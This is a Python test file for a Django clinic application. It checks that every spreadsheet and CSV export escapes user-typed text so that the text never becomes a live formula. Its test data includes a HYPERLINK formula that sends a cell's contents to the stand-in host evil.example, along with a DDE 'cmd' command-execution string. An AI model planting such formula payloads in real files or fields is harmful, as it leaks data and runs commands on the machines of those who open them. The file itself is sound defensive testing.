"""Every spreadsheet download goes through clinics/exports.py: text a clinic typed into its
profile never becomes a formula when staff open the file (issue 17: a clinic named
=HYPERLINK(…) came out live in /staff/follow-up.xlsx and unescaped in its CSV)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from announcements.past_results import TABLE_NAMES
from clinics import exports
from tests import factories
from tests.test_access_matrix import url_names

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A3,"詳細")'
OTHER_PAYLOADS = ["+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]

# every download URL, with the kwargs of each file it serves
EXPORTS = {
    "member_export": [{"fmt": "csv"}, {"fmt": "xlsx"}],
    "staff_follow_up_export": [{"fmt": "csv"}, {"fmt": "xlsx"}],
    "past_results_csv": [{"table": table} for table in TABLE_NAMES],
    "staff_funnel_export": [{"fmt": "csv"}, {"fmt": "xlsx"}],
    "national_export": [{}],
}
# downloads of figures and of the rule data only: nothing a user typed is in them
FIGURES_ONLY = {"past_results_csv", "staff_funnel_export", "national_export"}


NOT_SPREADSHEETS = {"rules_admin_export"}  # a rule version's JSON document


def test_every_download_is_in_this_test():
    downloads = {name for name in url_names() if name.endswith(("_export", "_csv"))}
    assert downloads - NOT_SPREADSHEETS == set(EXPORTS)


@pytest.mark.parametrize(
    "name,kwargs", [(name, kwargs) for name, each in EXPORTS.items() for kwargs in each]
)
def test_no_cell_of_any_download_is_a_formula(client, name, kwargs):
    factories.clinic(name=PAYLOAD, representative=OTHER_PAYLOADS[0], address=OTHER_PAYLOADS[1])
    factories.clinic(name=OTHER_PAYLOADS[2])
    user = factories.national_user() if name == "national_export" else factories.staff("東京都")
    client.force_login(user)
    response = client.get(reverse(name, kwargs=kwargs))
    assert response.status_code == 200
    if kwargs.get("fmt") == "xlsx":
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        values = [cell.value for cell in cells]
    else:
        text = response.content.decode("utf-8-sig")
        values = [value for row in csv.reader(io.StringIO(text)) for value in row]
        for value in values:
            assert not value.startswith(exports.FORMULA_START) or exports.NUMBER.fullmatch(value)
    if name not in FIGURES_ONLY:
        written = PAYLOAD if kwargs["fmt"] == "xlsx" else f"'{PAYLOAD}"
        assert written in values
        if name == "member_export":
            assert all(
                (p if kwargs["fmt"] == "xlsx" else f"'{p}") in values for p in OTHER_PAYLOADS
            )


@pytest.mark.parametrize(
    "value,written",
    [
        ("=1+1", "'=1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1", "'\r=1"),
        ("-12.5%", "-12.5%"),
        ("+1,234", "+1,234"),
        ("-", "'-"),
        ("青葉", "青葉"),
        (-3, -3),
    ],
)
def test_a_csv_cell_is_guarded_unless_it_is_a_number(value, written):
    assert exports.csv_cell(value) == written
